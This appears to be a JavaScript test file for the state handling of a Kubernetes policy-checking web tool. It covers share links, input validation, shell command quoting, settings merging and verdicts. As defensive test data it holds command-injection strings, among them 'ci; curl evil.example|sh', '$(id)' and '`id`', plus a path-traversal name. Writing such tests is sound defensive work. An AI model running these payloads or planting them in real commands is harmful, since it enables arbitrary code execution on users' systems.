// What follows from the state, without a browser: links that are read, settings that are changed, words for a shell.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";

import { source } from "./source.js";

const load = source();

const STATE = { manifests: [{ source: "a.yaml", text: "kind: Pod\n" }], profiles: [], settings: "", policies: [] };

test("of a link only what is known is taken, and each name once", async () => {
  const { fromFragment, isLink, read, toFragment } = await load("state/share.ts");
  const given = {
    ...STATE,
    manifests: [{ source: "a.yaml", text: "1", note: "x" }, { source: "a.yaml", text: "2" }],
    policies: [{ path: "p.rego", text: "", more: 1 }, { path: "p.rego", text: "" }],
    profiles: ["pss-baseline:v1.29", "psp:restricted"],
    extra: true,
    view: "compare",
    shown: 1,
    columns: ["ci", "psp:baseline"],
    selected: { path: "p.rego", id: undefined },
  };
  const expected = {
    manifests: [{ source: "a.yaml", text: "1" }, { source: "a-2.yaml", text: "2" }],
    profiles: ["pss-baseline:v1.29", "psp:restricted"],
    settings: "",
    policies: [{ path: "p.rego", text: "" }, { path: "p-2.rego", text: "" }],
    view: "compare",
    shown: 1,
    columns: ["ci", "psp:baseline"],
    selected: { path: "p.rego" },
  };
  assert.deepEqual(read(given), expected);
  assert.deepEqual(await fromFragment(await toFragment(given)), expected);
  const start = { view: "check", shown: 0, columns: ["pss-baseline", "pss-restricted", "ci"], selected: undefined };
  assert.deepEqual(read(STATE), { ...STATE, ...start });
  await assert.rejects(fromFragment("#2.abcdef"), /another version/);
  assert.deepEqual(["#1.a", "#2.a", "#main", ""].map(isLink), [true, true, false, false]);
});

test("what is no state, or names what does harm in a shell, is refused", async () => {
  const { read } = await load("state/share.ts");
  const wrong = [
    null, [], {}, { ...STATE, manifests: [] }, { ...STATE, manifests: [{ source: "a" }] }, { ...STATE, settings: null },
    { ...STATE, manifests: [{ source: "a\nb", text: "" }] }, { ...STATE, manifests: [{ source: "\u001b[2J", text: "" }] },
    { ...STATE, manifests: [{ source: "", text: "" }] }, { ...STATE, policies: [{ path: "a\rb", text: "" }] },
    { ...STATE, profiles: ["ci; curl evil.example|sh\n"] }, { ...STATE, profiles: ["$(id)"] }, { ...STATE, profiles: ["-x"] },
    { ...STATE, columns: ["a b"] }, { ...STATE, view: "else" }, { ...STATE, shown: 1 }, { ...STATE, shown: -1 }, { ...STATE, shown: 0.5 },
    { ...STATE, selected: {} },
  ];
  for (const value of wrong) assert.throws(() => read(value), /the link holds no state of this page/, JSON.stringify(value));
});

test("a shell reads the command as it is meant, whatever files are called", async () => {
  const { command } = await load("state/files.ts");
  const { manifests, policies, profiles, settings } = await load("state/state.ts");
  const words = () => execFileSync("sh", ["-c", `podgate() { printf '%s\\n' "$@"; }\n${command()}`], { encoding: "utf8" }).split("\n").slice(0, -1);
  const names = ["--output=json=x", "a b.yaml", "it's.yaml", "$(touch x)", "`id`", "a;b|c&d", "*.yaml", "~", "ä.yaml", "=ls"];
  manifests.value = names.map((source) => ({ source, text: "" }));
  // From a link they would be refused; here a shell must not run them either.
  profiles.value = ["ci; echo evil", "pss-restricted:v1.24"];
  settings.value = "profiles: [ci]\n";
  policies.value = [{ path: "a.rego", text: "" }];
  const options = ["check", "--profile", "ci; echo evil", "--profile", "pss-restricted:v1.24", "--settings", "podgate.yaml", "--policies", "policies/"];
  assert.deepEqual(words(), [...options, "--", ...names]);
  manifests.value = [{ source: "../../etc/pod.yaml", text: "" }];
  assert.deepEqual(words(), [...options, "etc/pod.yaml"]);
});

const PROFILES = [
  ["", 'profiles: [ci, pss-restricted:v1.24]\n'],
  ["# why\n\n# else\npolicies:\n  CI101:\n    mode: off # here\n", '# why\n\n# else\npolicies:\n  CI101:\n    mode: off # here\nprofiles: [ci, pss-restricted:v1.24]\n'],
  ["profiles: [\n  pss-baseline,\n  psp:baseline\n]\nexemptions: []\n", 'profiles: [ci, pss-restricted:v1.24]\nexemptions: []\n'],
  ["profiles:\n  - pss-baseline\n\n  # the second\n  - ci\npolicies: {}\n", 'profiles: [ci, pss-restricted:v1.24]\npolicies: {}\n'],
  ['{\n  "profiles": ["ci"],\n  "policies": {"CI101": {"mode": "off"}}\n}\n', { profiles: ["ci", "pss-restricted:v1.24"], policies: { CI101: { mode: "off" } } }],
];

const OFF = [
  ["", "policies:\n  CI201:\n    mode: off\n"],
  ["policies:\n", "policies:\n  CI201:\n    mode: off\n"],
  ["policies: {CI101: {mode: warn}} # all\n", "policies: {CI101: {mode: warn}, CI201: {mode: off}} # all\n"],
  ["policies:\n  CI201: # ours\n    severity: low\n  CI101:\n    mode: warn\n", "policies:\n  CI201:\n    # ours\n    severity: low\n    mode: off\n  CI101:\n    mode: warn\n"],
  ["policies:\n  CI201: { mode: warn }\n", "policies:\n  CI201: {mode: off}\n"],
  ['{"profiles": ["ci"]}', { profiles: ["ci"], policies: { CI201: { mode: "off" } } }],
];

/** JSON stays JSON, and YAML is the very text. */
function same(made, expected, text) {
  if (typeof expected === "string") assert.equal(made, expected, text);
  else assert.deepEqual(JSON.parse(made), expected, text);
}

test("settings are changed where they are, and the rest stays, comments and all", async () => {
  const { merged, withProfiles } = await load("state/settings-file.ts");
  for (const [text, expected] of PROFILES) same(await withProfiles(text, ["ci", "pss-restricted:v1.24"]), expected, text);
  for (const [text, expected] of OFF) same(await merged(text, { policies: { CI201: { mode: "off" } } }), expected, text);
  const more = await merged("exemptions:\n  - policies: [CI101] # a\n", { exemptions: [{ policies: ["CI104"], reason: "b" }] });
  assert.equal(more, "exemptions:\n  - policies: [CI101] # a\n  - policies: [CI104]\n    reason: b\n");
  for (const broken of ["policies: [", "just words", "- a\n"]) await assert.rejects(merged(broken, { policies: { CI201: { mode: "off" } } }), broken);
});

const REPORT = {
  subjects: [{}], findings: [], notEvaluated: [], failedPolicies: [], exempted: [],
  summary: { denied: false, exempted: 0, failedPolicies: 0, findings: { critical: 0, high: 0, medium: 0, low: 0, info: 0 }, notEvaluated: 0, subjects: 1 },
};

test("clean is only where everything was judged and nothing was found", async () => {
  const { verdictOf } = await load("state/verdict.ts");
  const of = (report, summary = {}) => {
    const { tone, title, missing } = verdictOf({ ...REPORT, ...report, summary: { ...REPORT.summary, ...summary } });
    return [tone, title, ...missing];
  };
  const counts = (more) => ({ findings: { ...REPORT.summary.findings, ...more } });
  const [denies, warns, audits] = ["deny", "warn", "audit"].map((action) => ({ findings: [{ action }] }));
  const gap = { notEvaluated: [{ cause: "unreadable" }] };
  assert.deepEqual(of({}), ["clean", "Clean"]);
  assert.deepEqual(of({ notEvaluated: [{ cause: "empty" }] }), ["clean", "Clean"]);
  assert.deepEqual(of({ subjects: [] }), ["none", "Nothing to judge"]);
  assert.deepEqual(of({}, { exempted: 2 }), ["none", "Clean, 2 exempted"]);
  assert.deepEqual(of(gap), ["none", "Not all could be judged", "1 not evaluated"]);
  assert.deepEqual(of({ subjects: [] }, { failedPolicies: 1 }), ["none", "Not all could be judged", "1 policy failed"]);
  assert.deepEqual(of(denies, { denied: true, ...counts({ high: 1 }) }), ["denied", "Refused"]);
  assert.deepEqual(of(warns, counts({ high: 1 })), ["warned", "Passes with warnings"]);
  assert.deepEqual(of(audits, counts({ low: 1 })), ["clean", "Passes"]);
  assert.deepEqual(of({ ...audits, ...gap }, counts({ low: 1 })), ["none", "Passes, as far as it could be judged", "1 not evaluated"]);
  assert.deepEqual(of({ ...denies, ...gap }, { denied: true, ...counts({ high: 1 }) }), ["denied", "Refused, as far as it could be judged", "1 not evaluated"]);
});
